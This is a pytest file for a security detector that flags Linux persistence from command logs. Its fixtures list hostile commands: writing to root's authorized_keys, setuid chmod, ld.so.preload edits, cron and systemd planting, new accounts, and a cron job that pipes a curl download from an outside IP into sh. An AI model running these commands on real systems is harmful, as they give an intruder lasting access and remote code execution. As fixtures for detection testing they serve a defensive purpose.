"""What lets somebody come back."""

from __future__ import annotations

import pytest

from tests.detect.messages import attacked, judged
from tocsin.core.log_messages import LogEvent
from tocsin.core.times import HOUR_NS
from tocsin.detect.persistence import Persistence
from tocsin.testing.log_messages import told
from tocsin.testing.scenes import START_NS


def ran(command: str, *, action: str = "sudo_command", hours: float = 0.0) -> LogEvent:
    facts = {"user.name": "ana", "process.command_line": command}
    at_ns = START_NS + int(hours * HOUR_NS)
    return told(at_ns, "", action, category="iam", outcome="success", facts=facts)


def signs(rows: list[LogEvent]) -> list[tuple[str, bool]]:
    return [(str(d.facts["sign"]), "weak" in d.facts) for d in judged(Persistence, rows)]


@pytest.mark.parametrize(
    ("command", "sign", "is_weak"),
    [
        ("/usr/bin/tee -a /root/.ssh/authorized_keys", "authorized_key", False),
        ("/usr/bin/chmod u+s /usr/local/bin/x", "setuid", False),
        ("/usr/bin/chmod 4755 /tmp/x", "setuid", False),
        ("/usr/bin/tee /etc/ld.so.preload", "preload", False),
        ("/usr/bin/tee /etc/cron.d/update", "cron_written", True),
        ("/bin/sh -c echo '* * * * * root x' > /etc/cron.d/x", "cron_written", True),
        ("/usr/bin/systemctl enable updater", "unit_written", True),
        ("/usr/bin/cp x.service /etc/systemd/system/x.service", "unit_written", True),
        ("/usr/sbin/useradd -m eve", "account_made", True),
        ("/usr/bin/nano /etc/rc.local", "start_file_written", True),
    ],
)
def test_a_command_is_a_sign(command: str, sign: str, is_weak: bool) -> None:
    assert signs([ran(command)]) == [(sign, is_weak)]


@pytest.mark.parametrize(
    "command",
    ["/usr/bin/chmod 755 /srv/x", "/usr/bin/chmod g+w /srv", "/usr/bin/systemctl restart x",
     "/usr/bin/cat /etc/cron.d/php", "/usr/bin/passwd -S ana", "/usr/bin/chmod 0644 /etc/x"],
)  # fmt: skip
def test_an_ordinary_command_is_none(command: str) -> None:
    assert signs([ran(command)]) == []


def test_accounts_for_people_are_told_those_for_programs_not() -> None:
    for shell, wanted in (("/bin/bash", [("user_created", False)]), ("/usr/sbin/nologin", [])):
        facts = {"user.target.name": "eve", "tocsin.details": f"GID=1, home=/x, shell={shell}"}
        row = told(START_NS, "", "user_created", category="iam", outcome="success", facts=facts)
        assert signs([row]) == wanted


def test_a_job_that_fetches_and_runs_is_told_at_once() -> None:
    command = "curl -s http://198.51.100.7/x | sh"

    assert signs([ran(command, action="cron_command")]) == [("suspicious_job", False)]


def test_a_new_job_is_told_after_eight_days() -> None:
    for days, wanted in ((10, [("new_job", False)]), (6, [])):
        jobs = [ran(f"/usr/bin/php cron.php --job {n}", action="cron_command", hours=n)
                for n in range(24 * days)]  # fmt: skip
        rows = [*jobs, ran("/usr/local/bin/x", action="cron_command", hours=24 * days)]
        assert signs(rows) == wanted


def test_a_key_file_that_auditd_saw_is_told() -> None:
    facts = {"auditd.nametype": "CREATE", "file.path": "/root/.ssh/authorized_keys"}
    row = told(START_NS, "", "audit_record", category="host", outcome="unknown", facts=facts)

    assert signs([row]) == [("file_written", False)]


def test_conformance_attack_raises_once() -> None:
    assert len(attacked(Persistence)) == 1
